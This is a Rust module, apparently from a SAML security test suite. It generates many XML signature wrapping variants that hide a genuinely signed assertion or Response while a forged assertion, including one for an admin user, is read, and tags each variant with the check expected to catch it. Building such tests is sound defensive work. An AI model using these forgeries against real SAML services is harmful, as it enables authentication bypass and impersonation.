//! Signature wrapping: the signed element is moved out of the way, a forged one stands where it is read.
//! XSW 1 to 12 are among these: every hiding place, with every way to give the forged one an id and a
//! signature.

use super::{Attack, Target, attack, carrying, evil_assertion};

const STRUCTURE: &[&str] = &["saml_structure"];

/// A Response in which `evil` stands in the assertion's place and `hidden` somewhere.
type Place = (&'static str, fn(&Target, &str, &str) -> String);

fn inside(evil: &str, before: &str, wrapped: &str) -> String {
    assert!(evil.contains(before), "{before}");
    evil.replacen(before, &format!("{wrapped}{before}"), 1)
}

const PLACES: [Place; 19] = [
    ("before it", |target, evil, hidden| target.with_assertion(&format!("{hidden}{evil}"))),
    ("after it", |target, evil, hidden| target.with_assertion(&format!("{evil}{hidden}"))),
    ("first in it", |target, evil, hidden| target.with_assertion(&inside(evil, "<saml:Issuer>", hidden))),
    ("last in it", |target, evil, hidden| target.with_assertion(&inside(evil, "</saml:Assertion>", hidden))),
    ("Extensions", |target, evil, hidden| {
        let extensions = format!("<samlp:Extensions>{hidden}</samlp:Extensions>");
        target.with_assertion(evil).replacen("<samlp:Status>", &format!("{extensions}<samlp:Status>"), 1)
    }),
    ("StatusDetail", |target, evil, hidden| {
        let detail = format!("<samlp:StatusDetail>{hidden}</samlp:StatusDetail>");
        target.with_assertion(evil).replacen("</samlp:Status>", &format!("{detail}</samlp:Status>"), 1)
    }),
    ("StatusCode", |target, evil, hidden| {
        target.with_assertion(evil).replacen(
            "status:Success\"/>",
            &format!("status:Success\">{hidden}</samlp:StatusCode>"),
            1,
        )
    }),
    ("the Response's Issuer", |target, evil, hidden| {
        target.with_assertion(evil).replacen("</saml:Issuer>", &format!("{hidden}</saml:Issuer>"), 1)
    }),
    ("the start of the Response", |target, evil, hidden| {
        target.with_assertion(evil).replacen("<saml:Issuer>", &format!("{hidden}<saml:Issuer>"), 1)
    }),
    ("the end of the Response", |target, evil, hidden| {
        target.with_assertion(evil).replace("</samlp:Response>", &format!("<x>{hidden}</x></samlp:Response>"))
    }),
    ("Advice", |target, evil, hidden| {
        let advice = format!("<saml:Advice>{hidden}</saml:Advice>");
        target.with_assertion(&inside(evil, "<saml:AuthnStatement", &advice))
    }),
    ("AttributeValue", |target, evil, hidden| {
        target.with_assertion(&inside(evil, "</saml:AttributeValue>", hidden))
    }),
    ("SubjectConfirmation", |target, evil, hidden| {
        target.with_assertion(&inside(evil, "</saml:SubjectConfirmation>", hidden))
    }),
    ("Conditions", |target, evil, hidden| target.with_assertion(&inside(evil, "</saml:Conditions>", hidden))),
    ("AuthnContextDecl", |target, evil, hidden| {
        let declared = format!("<saml:AuthnContextDecl>{hidden}</saml:AuthnContextDecl>");
        target.with_assertion(&inside(evil, "</saml:AuthnContext>", &declared))
    }),
    ("another AttributeStatement", |target, evil, hidden| {
        let statement = format!("<saml:AttributeStatement>{hidden}</saml:AttributeStatement>");
        target.with_assertion(&inside(evil, "</saml:Assertion>", &statement))
    }),
    ("an element of nobody", |target, evil, hidden| {
        target.with_assertion(&inside(evil, "</saml:Assertion>", &format!("<x xmlns=\"urn:x\">{hidden}</x>")))
    }),
    ("EncryptedAssertion", |target, evil, hidden| {
        let sealed = format!("<saml:EncryptedAssertion>{hidden}</saml:EncryptedAssertion>");
        target.with_assertion(&format!("{evil}{sealed}"))
    }),
    ("a Response in the Response", |target, evil, hidden| {
        target.with_assertion(&format!("{evil}<samlp:Response>{hidden}</samlp:Response>"))
    }),
];

/// Places in the forged one's own signature.
const IN_SIGNATURE: [(&str, &str, &str, &str); 8] = [
    ("Object", "</ds:Signature>", "<ds:Object>", "</ds:Object>"),
    ("KeyInfo", "</ds:Signature>", "<ds:KeyInfo>", "</ds:KeyInfo>"),
    ("Signature", "</ds:Signature>", "", ""),
    ("Signature, first", "<ds:SignedInfo>", "", ""),
    ("SignedInfo", "</ds:SignedInfo>", "", ""),
    ("Reference", "</ds:Reference>", "", ""),
    ("Transforms", "</ds:Transforms>", "", ""),
    ("DigestValue", "</ds:DigestValue>", "", ""),
];

/// The signed assertion is hidden, an assertion about somebody else is read.
pub fn of_the_assertion(target: &Target) -> Vec<Attack> {
    let honest = target.assertion().to_owned();
    let (bare, signature) = (target.bare_assertion(), target.signature_of("_assertion1"));
    let mut made = Vec::new();
    for id in [Some("_evil"), Some("_assertion1"), None] {
        let evil = evil_assertion(id);
        let mut forged = vec![("unsigned", evil.clone(), honest.clone())];
        if let Some(signature) = signature {
            forged.push(("with the signature", carrying(&evil, signature), bare.clone()));
            forged.push(("with a copy of the signature", carrying(&evil, signature), honest.clone()));
            forged.push(("unsigned, the signature gone", evil.clone(), bare.clone()));
        }
        for (how, evil, hidden) in forged {
            for (place, make) in PLACES {
                let name = format!("an assertion {how} and id {id:?}, the honest one hidden in {place}");
                made.push(attack(name, make(target, &evil, &hidden), STRUCTURE));
            }
        }
        for (place, before, open, close) in IN_SIGNATURE {
            let Some(signature) = signature else { continue };
            for hidden in [&bare, &honest] {
                let holding = signature.replacen(before, &format!("{open}{hidden}{close}{before}"), 1);
                let name =
                    format!("an assertion with id {id:?} whose signature holds the honest one in {place}");
                made.push(attack(name, target.with_assertion(&carrying(&evil, &holding)), STRUCTURE));
            }
        }
    }
    made
}

/// The signed Response is hidden in a forged one.
pub fn of_the_response(target: &Target) -> Vec<Attack> {
    let Some(signature) = target.signature_of("_response1") else { return Vec::new() };
    let honest = &target.xml;
    let bare = honest.replace(signature, "");
    let mut made = Vec::new();
    for id in ["ID=\"_evil\" ", "ID=\"_response1\" ", ""] {
        for hidden in [honest, &bare] {
            let holding = |before: &str, open: &str, close: &str| {
                signature.replacen(before, &format!("{open}{hidden}{close}{before}"), 1)
            };
            let mut signatures = vec![signature.to_owned(), String::new()];
            signatures
                .extend(IN_SIGNATURE.iter().map(|(_, before, open, close)| holding(before, open, close)));
            for own in &signatures {
                let around =
                    |content: &str| target.answer.around(own, content).replacen("ID=\"_response1\" ", id, 1);
                let evil = evil_assertion(Some("_evil2"));
                let mut documents = vec![around(&evil)];
                if !own.contains("<samlp:Response") {
                    documents = [
                        format!("{hidden}{evil}"),
                        format!("{evil}{hidden}"),
                        format!("<samlp:Extensions>{hidden}</samlp:Extensions>{evil}"),
                        evil.replacen(
                            "</saml:Issuer>",
                            &format!("</saml:Issuer><saml:Advice>{hidden}</saml:Advice>"),
                            1,
                        ),
                        evil.replacen(
                            "</saml:AttributeValue>",
                            &format!("{hidden}</saml:AttributeValue>"),
                            1,
                        ),
                    ]
                    .iter()
                    .map(|content| around(content))
                    .collect();
                }
                for (at, document) in documents.into_iter().enumerate() {
                    let name =
                        format!("a Response with {id:?} around the honest one, {at}, {} bytes", own.len());
                    made.push(attack(name, document, STRUCTURE));
                }
            }
        }
    }
    made
}

/// Nothing is hidden: what masks the rules of the signature itself is gone.
pub fn without_a_hiding_place(target: &Target) -> Vec<Attack> {
    let mut made = Vec::new();
    if let Some(signature) = target.signature_of("_assertion1") {
        let carry = |id| target.with_assertion(&carrying(&evil_assertion(id), signature));
        made.push(attack("the signature of another id", carry(Some("_evil")), &["saml_signature_form"]));
        made.push(attack("the signature on an assertion without id", carry(None), &["saml_signature_form"]));
        made.push(attack(
            "the signature on an assertion of the same id",
            carry(Some("_assertion1")),
            &["saml_digest"],
        ));
    }
    if let Some(signature) = target.signature_of("_response1") {
        // The Response's signature goes down into an assertion that takes the Response's id.
        let below = carrying(&evil_assertion(Some("_response1")), signature);
        let unsigned = target.xml.replace(signature, "");
        let renamed = unsigned.replace("ID=\"_response1\"", "ID=\"_other\"");
        let honest = super::element(&renamed, "saml:Assertion", 0).to_owned();
        made.push(attack(
            "the Response's signature below",
            renamed.replace(&honest, &below),
            &["saml_digest"],
        ));
        let other = carrying(&evil_assertion(Some("_evil")), signature);
        made.push(attack("and under another id", renamed.replace(&honest, &other), &["saml_signature_form"]));
        let swapped = target.with_assertion(&evil_assertion(Some("_evil")));
        made.push(attack("another assertion in the signed Response", swapped, &["saml_digest"]));
    }
    made
}

/// Assertions beside each other, each of which would be believed.
pub fn several(target: &Target) -> Vec<Attack> {
    let second = super::Form::Assertion.answer();
    let second = crate::saml_idp::Answer {
        assertion_id: "_assertion2".to_owned(),
        subject: "<saml:NameID>admin@example.com</saml:NameID>".to_owned(),
        ..second
    };
    let second = super::element(&second.xml(), "saml:Assertion", 0).to_owned();
    let honest = target.assertion();
    let sealed = "<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></saml:EncryptedAssertion>";
    let mut made = Vec::new();
    for (name, content) in [
        ("two signed assertions", format!("{honest}{second}")),
        ("two signed assertions, the other first", format!("{second}{honest}")),
        ("an assertion twice", format!("{honest}{honest}")),
        ("a plain assertion and an encrypted one", format!("{honest}{sealed}")),
        ("an encrypted assertion and a plain one", format!("{sealed}{honest}")),
        ("an encrypted assertion and a forged one", format!("{sealed}{}", evil_assertion(Some("_evil")))),
        ("two encrypted assertions", format!("{sealed}{sealed}")),
    ] {
        made.push(attack(name, target.with_assertion(&content), STRUCTURE));
        if target.form.signs_response() && name != "an assertion twice" {
            // Signed by the provider itself, so that nothing but the number is wrong.
            let signature = crate::saml_idp::template("_response1", target.answer.method, "");
            let unsigned = target.answer.around(&signature, &content);
            let signed = crate::saml_idp::sign(&unsigned, &crate::saml_idp::good_key().pem);
            made.push(attack(format!("{name}, in a signed Response"), signed, STRUCTURE));
        }
    }
    made
}
